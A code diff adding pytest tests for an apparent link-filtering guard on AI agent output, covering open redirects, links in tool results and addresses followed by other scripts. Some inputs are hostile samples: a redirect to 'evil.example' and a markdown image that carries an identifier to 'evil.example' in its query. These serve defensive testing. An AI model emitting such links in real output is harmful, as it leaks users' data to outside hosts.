@@ -208,6 +208,34 @@ async def test_a_subject_is_not_data() -> None:
         assert [each.kind for each in verdict.findings] == ["unknown_link"], address
 
 
+async def test_a_known_page_that_leads_on_to_an_unknown_one_is_removed() -> None:
+    verdict = await judged("See https://track.lantern.example/find?then=//evil.example/a")
+    assert (verdict.action, verdict.findings[0].kind) == ("redact", "redirect")
+    assert (await judged("See https://track.lantern.example/find?then=https://lantern.example/help")).findings == ()
+
+
+async def test_a_link_in_a_short_result_of_a_tool_passes_and_one_in_a_document_does_not() -> None:
+    settings, text = {"hosts": ["lantern.example"]}, "See https://post.example/?id=LT-448120"
+    short = "On its way, track at https://post.example/?id=LT-448120 from noon"
+    assert (await judged(text, settings, calls=[done("track", short)])).findings == ()
+    assert (await judged(text, settings, calls=[done("read_mail", "Dear friend! " * 20 + short)])).action == "redact"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "देखें https://lantern.example।",
+        "انظر https://lantern.example، شكرا",
+        "https://lantern.example에서 보세요",
+        "https://lantern.exampleで確認できます。",
+        "See (https://lantern.example/help)—or call. **https://lantern.example/help**",
+        "HTTPS://LANTERN.EXAMPLE:443/Help?x=1",
+    ],
+)
+async def test_what_follows_an_address_in_other_scripts_is_not_part_of_it(text: str) -> None:
+    assert (await judged(text, {"hosts": ["lantern.example"]})).findings == ()
+
+
 async def test_the_actions_are_settings() -> None:
     text = "![x](https://evil.example/?d=LT-448120)"
     assert (await judged(text, {"data": "escalate"})).action == "escalate"
